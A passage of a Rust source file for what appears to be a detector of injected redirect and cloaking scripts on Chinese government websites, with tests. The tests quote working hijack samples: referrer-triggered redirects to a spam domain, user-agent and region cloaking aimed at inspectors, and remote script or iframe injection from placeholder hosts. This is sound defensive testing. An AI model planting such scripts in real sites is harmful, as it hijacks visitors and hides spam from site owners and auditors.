    [
        ".png", ".gif", ".jpg", ".jpeg", ".webp", ".svg", ".ico", ".bmp", ".css",
    ]
    .iter()
    .any(|e| path.ends_with(e))
}

/// `host` is `domain` or one of its subdomains.
fn under(host: &str, domain: &str) -> bool {
    host.strip_suffix(domain)
        .is_some_and(|rest| rest.is_empty() || rest.ends_with('.'))
}

/// Registry second levels under `.cn` (and a few others) that are not
/// one owner's domain.
const SECOND_LEVEL: &[&str] = &[
    "com.cn", "net.cn", "org.cn", "gov.cn", "edu.cn", "ac.cn", "com.hk", "com.tw", "co.uk",
];

/// Not "elsewhere" for a device redirect: the page's host, its parent
/// domain and that domain's other hosts (`www.x.gov.cn` → `m.x.gov.cn`),
/// and government and education sites (a county portal sending phones to
/// the province's mobile platform).
fn same_site(base: &Url, target: &Url) -> bool {
    let Some(host) = target
        .host_str()
        .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
    else {
        return true;
    };
    if ["gov.cn", "gov", "edu.cn"].iter().any(|d| under(&host, d)) {
        return true;
    }
    let Some(page) = base
        .host_str()
        .map(|h| h.trim_end_matches('.').to_ascii_lowercase())
    else {
        return false;
    };
    if host == page {
        return true;
    }
    // The parent domain, unless that is a registry's (`com.cn`): no
    // public-suffix list here, the common Chinese second levels will do.
    let parent = match page.split_once('.') {
        Some((_, rest)) if rest.contains('.') && !SECOND_LEVEL.contains(&rest) => rest,
        _ => page.as_str(),
    };
    under(&host, parent)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn on(script: &str, page: &str) -> Option<Conditional> {
        let mut budget = super::super::MAX_DECODED;
        let read = super::super::read(script, &mut budget);
        read.behaviour.conditional(&Url::parse(page).unwrap())
    }

    fn term(script: &str) -> Option<String> {
        on(script, "http://www.example.gov.cn/index.html").map(|c| c.term())
    }

    #[test]
    fn the_regex_of_engines_tested_against_the_referrer() {
        // spam/011-referrer-mobile-cookie-redirect.js of the evaluation set
        // (heldout split), lines 9-14.
        let c = on(
            r#"var regexp=/\.(sogou|soso|baidu|bsb|youdao|lanjie|bing|118114|biso|sm|qq|so|safe|toutiao|biso|360)(\.[a-z0-9\-]+){1,2}\//ig;
var where =document.referrer;
if(regexp.test(where))
{
window.location.href="https://www.bnbnwr2313.com";
}"#,
            "http://www.example.gov.cn/",
        )
        .expect("a finding");
        assert_eq!(
            c.term(),
            "referrer:118114,baidu,bing,biso,sogou,soso,…->location"
        );
        assert_eq!(c.target.as_deref(), Some("https://www.bnbnwr2313.com"));
        assert!(c.excerpt.contains("var where =document.referrer;"), "{c:?}");
        assert!(c.cause().starts_with(
            "reads document.referrer, compares it with 118114, baidu, bing, biso, sogou, soso, toutiao, youdao, 360, qq, sm, so, then location (to https://www.bnbnwr2313.com): "
        ), "{}", c.cause());
        // The short form of the task, with domains.
        assert_eq!(
            term(r#"if(/\.(sogou|baidu|so|sm)\.(com|cn)/i.test(document.referrer)){top.location.href="http://x.example/"}"#).as_deref(),
            Some("referrer:baidu,sogou,sm,so->location")
        );
    }

    #[test]
    fn index_of_chains_aliases_and_escaped_names() {
        for script in [
            r#"var s=document.referrer; if(s.indexOf("baidu")>0||s.indexOf("sogou")>0){location="http://x.example/"}"#,
            r#"var r = document['\x72\x65\x66\x65\x72\x72\x65\x72']; var e = ["\u0062aidu", "sogou.com", "so.com"]; for (var i in e) if (r.indexOf(e[i]) > -1) window.open("http://x.example/");"#,
            r#"var d=document,u=d.referrer;if(u.indexOf('www.baidu.com')!=-1){d.write('<script src="http://x.example/j.js"><\/script>')}"#,
            r#"var ua = navigator.userAgent.toLowerCase(); if (ua.indexOf('baiduspider') == -1) { document.body.innerHTML = '<iframe src="http://x.example/"></iframe>'; }"#,
            r#"if (document.cookie.indexOf('sogou') < 0 && /so\.com|sm\.cn/.test(document.referrer)) { document.write('<meta http-equiv="refresh" content="0;url=http://x.example/">'); }"#,
        ] {
            assert!(term(script).is_some(), "{script}");
        }
        assert_eq!(
            term(r#"var ua = navigator.userAgent.toLowerCase(); if (ua.indexOf('baiduspider') == -1) { document.body.innerHTML = '<iframe src="http://x.example/"></iframe>'; }"#).as_deref(),
            Some("user-agent:baiduspider->innerHTML")
        );
    }

    #[test]
    fn statistics_code_that_reads_the_referrer_stays_clean() {
        for script in [
            // Baidu tongji, as every registered site pastes it.
            r#"var _hmt = _hmt || []; (function() { var hm = document.createElement("script"); hm.src = "https://hm.baidu.com/hm.js?5f003303e789f4619071208b12c9c281"; var s = document.getElementsByTagName("script")[0]; s.parentNode.insertBefore(hm, s); })();"#,
            // CNZZ.
            r#"var cnzz_protocol = (("https:" == document.location.protocol) ? " https://" : " http://");document.write(unescape("%3Cspan id='cnzz_stat_icon_1234'%3E%3C/span%3E%3Cscript src='" + cnzz_protocol + "s4.cnzz.com/stat.php%3Fid%3D1234' type='text/javascript'%3E%3C/script%3E"));"#,
            // An old counter that sends the referrer along.
            r#"document.write("<img src='http://count.example.gov.cn/c.asp?ref="+escape(document.referrer)+"&p="+escape(location.href)+"' width=0 height=0>");"#,
            // The referrer read and the engines listed, no sink: attribution.
            r#"var ref = document.referrer; var sites = ["google.com", "baidu.com", "so.com", "sogou.com"]; for (var i in sites) if (ref.indexOf(sites[i]) > -1) from = sites[i];"#,
            // Count humans only: the one sink loads a statistics script.
            r#"if (!/baiduspider|googlebot/i.test(navigator.userAgent)) { var s = document.createElement("script"); s.src = "https://s95.cnzz.com/z_stat.php?id=1"; document.body.appendChild(s); }"#,
            // Frame busting with a referrer whitelist.
            r#"if (self !== top && document.referrer.search(/baidu\.com|sogou\.com|so\.com/) === -1) { top.location = self.location; }"#,
        ] {
            assert_eq!(term(script), None, "{script}");
        }
    }

    #[test]
    fn weak_foreign_or_generic_names_are_not_enough() {
        for script in [
            r#"if (document.referrer.indexOf("google") > -1) { el.innerHTML = "<b>Welcome</b>"; }"#,
            r#"if (/bot|spider|crawl/i.test(navigator.userAgent)) return; var s = document.createElement("script"); s.src = "https://cmp.example/consent.js";"#,
            r#"if (document.referrer.indexOf("qq") > 0 || document.referrer.indexOf("163") > 0) location.href = "/welcome";"#,
            r#"if (navigator.userAgent.indexOf("MSIE 6") > -1) location.href = "http://browsehappy.example/";"#,
        ] {
            assert_eq!(term(script), None, "{script}");
        }
        assert!(term(r#"if (/google|bing|yahoo/.test(document.referrer)) location.href = "http://x.example/";"#).is_some());
    }

    #[test]
    fn a_mobile_redirect_of_the_site_is_not_one_and_a_redirect_elsewhere_is() {
        let portal = "http://www.example.gov.cn/index.html";
        for script in [
            r#"if(/iPhone|Android/i.test(navigator.userAgent)) location.href='/m/';"#,
            r#"if(/iPhone|Android/i.test(navigator.userAgent)) location.href='http://m.example.gov.cn/';"#,
            r#"if(/iPhone|Android/i.test(navigator.userAgent)) window.location.href='http://www.province.gov.cn/wap/';"#,
            r#"if(/iPhone|Android/i.test(navigator.userAgent)) location.replace(location.href.replace('www', 'm'));"#,
            // A device condition that writes a phone layout.
            r#"if(/mobile/i.test(navigator.userAgent)) document.write('<link rel="stylesheet" href="/css/m.css">');"#,
        ] {
            assert_eq!(on(script, portal), None, "{script}");
        }
        // spam/008-desktop-to-qq404-mobile-only.js (tune split), whole file:
        // desktops (the office) are sent away, phones see the spam.
        let desktop = r#"var system = {win: false,mac: false,xll: false};var p = navigator.platform;var us = navigator.userAgent.toLowerCase();system.win = p.indexOf("Win") == 0;system.mac = p.indexOf("Mac") == 0;system.x11 = (p == "X11") || (p.indexOf("Linux") == 0);if(system.win || system.mac || system.xll) {window.location.href="http://www.qq.com/babygohome/?pgv_ref=404";}"#;
        let c = on(desktop, portal).expect("sent to another site");
        assert_eq!(c.term(), "user-agent:linux,mac,win,x11->location");
        assert_eq!(
            c.target.as_deref(),
            Some("http://www.qq.com/babygohome/?pgv_ref=404")
        );
        let phones = r#"if(/iPhone|Android/i.test(navigator.userAgent)) location.href='https://www.bnbnwr2313.com';"#;
        assert!(on(phones, portal).is_some());
        // A local file has no site to compare with.
        assert_eq!(on(desktop, "file:///tmp/t.js"), None);
        // A company's m. site is its own.
        assert_eq!(
            on(
                r#"if(/iPhone|Android/i.test(navigator.userAgent)) location.href='http://m.example.com.cn/';"#,
                "http://www.example.com.cn/"
            ),
            None
        );
        assert!(on(r#"if(/iPhone|Android/i.test(navigator.userAgent)) location.href='http://spam.com.cn/';"#, "http://www.example.com.cn/").is_some());
    }

    #[test]
    fn a_region_condition_sending_visitors_to_another_site_is_one() {
        let portal = "http://www.example.gov.cn/js/common.js";
        // spam/017-fanmulu-pinbi-region-cloak.js (tune split), whole file:
        // visitors from the cities where offices check sites are sent to
        // a 404 page elsewhere.
        let kit = r#"var country = remote_ip_info['country'];
var city = remote_ip_info['city'];
if( city=='北京' || city=='南京' || city=='佛山' || city=='深圳' ){
    window.location.href='http://bbs.classic023.com/404.htm';
}"#;
        let c = on(kit, portal).expect("sent to another site");
        assert_eq!(c.term(), "region:region->location");
        assert!(c.cause().contains("IP lookup"), "{}", c.cause());
        let sohu = r#"if (returnCitySN["cname"].indexOf("广东") < 0) location.href = "https://x.example/";"#;
        assert!(on(sohu, portal).is_some());
        // A company's regional site is its own; a region shown, not acted on.
        for script in [
            r#"if (remote_ip_info.city == '北京') location.href = 'http://bj.example.gov.cn/';"#,
            r#"if (remote_ip_info.city == '北京') location.href = '/bj/';"#,
            r#"document.getElementById('city').innerHTML = remote_ip_info.city;"#,
        ] {
            assert_eq!(on(script, portal), None, "{script}");
        }
    }

    #[test]
    fn a_read_in_one_corner_and_a_redirect_in_another_are_not_one_condition() {
        let filler: String = (0..200).map(|i| format!("var v{i} = {i};")).collect();
        let script = format!(
            "var r = document.referrer; var e = /baidu|sogou/; {filler} location.href = 'http://x.example/';"
        );
        assert_eq!(term(&script), None);
        // The names are taken near the read too: a list defined far from
        // where it is used is not seen (the real hijacks define it on the
        // line before).
        let far = format!("var e = /baidu|sogou/; {filler} if (e.test(document.referrer)) location.href = 'http://x.example/';");
        assert_eq!(term(&far), None);
        let near = format!("{filler} var e = /baidu|sogou/; if (e.test(document.referrer)) location.href = 'http://x.example/';");
        assert!(term(&near).is_some());
    }
}
